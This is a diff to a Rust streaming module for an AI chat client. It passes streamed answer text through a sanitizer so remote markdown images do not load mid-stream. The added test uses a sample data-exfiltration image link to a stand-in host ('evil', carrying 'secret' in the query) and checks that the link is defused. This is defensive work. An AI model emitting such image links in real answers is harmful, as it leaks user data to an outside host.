@@ -3,11 +3,15 @@
 //! arguments, also as `Text`. When the turn is complete, whatever the stream did not
 //! carry (a non-streamed reply, a server that ignored `stream`) is sent from the whole
 //! turn, so a client always receives the turn's text and answer exactly once.
+//!
+//! Everything sent passes through the answer sanitizer first, as the final answer does:
+//! a remote image must not load while the answer streams either.
 
 use std::collections::BTreeMap;
 
 use super::answer_stream::AnswerStream;
 use super::events::{AskEvent, EventSink};
+use super::sanitize::StreamSanitizer;
 use crate::providers::{AssistantTurn, StreamEvent};
 
 /// Put between a turn's own text and the answer it then writes into the `answer` tool,
@@ -27,6 +31,7 @@ pub struct TurnStream<'a> {
     /// Argument fragments of calls whose name has not arrived yet.
     unnamed: BTreeMap<usize, String>,
     named: BTreeMap<usize, bool>,
+    sanitizer: StreamSanitizer,
 }
 
 impl<'a> TurnStream<'a> {
@@ -41,6 +46,7 @@ impl<'a> TurnStream<'a> {
             extractor: AnswerStream::default(),
             unnamed: BTreeMap::new(),
             named: BTreeMap::new(),
+            sanitizer: StreamSanitizer::default(),
         }
     }
 
@@ -52,7 +58,7 @@ impl<'a> TurnStream<'a> {
                 // reply's answer is authoritative either way.
                 if !self.answer_started {
                     self.text.push_str(text);
-                    self.emit(text.to_string());
+                    self.emit(text);
                 }
             }
             StreamEvent::Reasoning(text) => (self.events)(AskEvent::Thought {
@@ -87,7 +93,7 @@ impl<'a> TurnStream<'a> {
             if let Some(rest) = turn.text.strip_prefix(self.text.as_str()) {
                 if !rest.is_empty() {
                     self.text.push_str(rest);
-                    self.emit(rest.to_string());
+                    self.emit(rest);
                 }
             }
         }
@@ -96,6 +102,8 @@ impl<'a> TurnStream<'a> {
                 self.answer_text(rest);
             }
         }
+        let held = self.sanitizer.finish();
+        self.send(held);
     }
 
     fn answer_fragment(&mut self, fragment: &str) {
@@ -110,18 +118,25 @@ impl<'a> TurnStream<'a> {
         if !self.answer_started {
             self.answer_started = true;
             if !self.text.trim().is_empty() {
-                self.emit(ANSWER_SEPARATOR.to_string());
+                self.emit(ANSWER_SEPARATOR);
             }
         }
         self.answer.push_str(text);
-        self.emit(text.to_string());
+        self.emit(text);
     }
 
-    fn emit(&self, text: String) {
-        (self.events)(AskEvent::Text {
-            turn: self.turn,
-            text,
-        });
+    fn emit(&mut self, text: &str) {
+        let safe = self.sanitizer.push(text);
+        self.send(safe);
+    }
+
+    fn send(&self, text: String) {
+        if !text.is_empty() {
+            (self.events)(AskEvent::Text {
+                turn: self.turn,
+                text,
+            });
+        }
     }
 }
 
@@ -224,5 +239,25 @@ mod tests {
         };
         stream.finish(&turn, None);
         assert_eq!(texts(&log), ["Half ", "and half."]);
+    }
+
+    #[test]
+    fn streamed_text_is_sanitized_before_it_leaves() {
+        let log = Mutex::new(Vec::new());
+        let sink = |e: AskEvent| log.lock().unwrap().push(e);
+        let mut stream = TurnStream::new(1, &sink);
+        stream.on(StreamEvent::Text("See ![x](https://evil/?d="));
+        stream.on(StreamEvent::Text("secret) now"));
+        let turn = AssistantTurn {
+            text: "See ![x](https://evil/?d=secret) now".into(),
+            tool_calls: Vec::new(),
+        };
+        stream.finish(&turn, None);
+        let all: String = texts(&log).concat();
+        assert_eq!(
+            all,
+            "See x (image not loaded: `https://evil/?d=secret`) now"
+        );
+        assert_eq!(texts(&log)[0], "See ");
     }
 }
